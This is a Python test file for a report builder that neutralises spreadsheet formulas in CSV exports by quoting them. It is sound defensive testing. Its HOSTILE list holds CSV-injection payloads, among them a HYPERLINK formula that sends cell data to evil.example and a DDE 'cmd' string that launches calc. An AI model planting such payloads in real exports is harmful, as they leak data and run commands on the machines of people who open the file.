"""report.csv neutralises spreadsheet formulas that DAG authors put in statements and run ids."""

from __future__ import annotations

import csv
from html import escape
from pathlib import Path

import pytest

from airflow_hoop.ledger.report import ReportBuilder, ReportScope
from airflow_hoop.ledger.verification import Verification

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+1",
    "\tcmd",
    "\r=1",
]


def _report(tmp_path: Path, script: str) -> tuple[list[str], str]:
    step = {
        "dag_id": "hostile",
        "task_id": "t",
        "run_id": script,  # run ids are the DAG author's too
        "try_number": 1,
        "map_index": -1,
    }
    builder = ReportBuilder(tmp_path, ReportScope())
    builder.add(
        {
            "seq": 1,
            "time": "2026-12-05T00:00:00+00:00",
            "step": step,
            "body": {
                "kind": "session.intent",
                "session_id": "s1",
                "connection": "warehouse",
                "script": script,
                "db_user": "v-step-1",
            },
        }
    )
    builder.add(
        {
            "seq": 2,
            "time": "2026-12-05T00:00:01+00:00",
            "step": step,
            "body": {
                "kind": "session.result",
                "session_id": "s1",
                "status": "success",
                "rowcount": -1,
            },
        }
    )
    builder.finish(Verification(ok=True, records=2), {})
    with open(tmp_path / "report.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1
    row = rows[0]
    html = (tmp_path / "report.html").read_text()
    return [row["command"], row["run_id"], row["rowcount"], row["map_index"]], html


@pytest.mark.parametrize("script", HOSTILE)
def test_a_formula_in_a_statement_is_quoted_in_the_csv_only(tmp_path: Path, script: str) -> None:
    (command, run_id, rowcount, map_index), html = _report(tmp_path, script)
    assert command == "'" + script and run_id == "'" + script
    assert rowcount == "-1" and map_index == "-1", "the report's own numbers stay numbers"
    # The HTML shows the text as recorded (escaped, never quoted; its rows pass through a text
    # file, which reads a lone CR as a newline).
    assert escape(script.lstrip("\t\r")) in html and escape("'" + script) not in html


def test_plain_text_is_unchanged(tmp_path: Path) -> None:
    (command, run_id, _, _), _ = _report(tmp_path, "SELECT 1")
    assert command == "SELECT 1" and run_id == "SELECT 1"
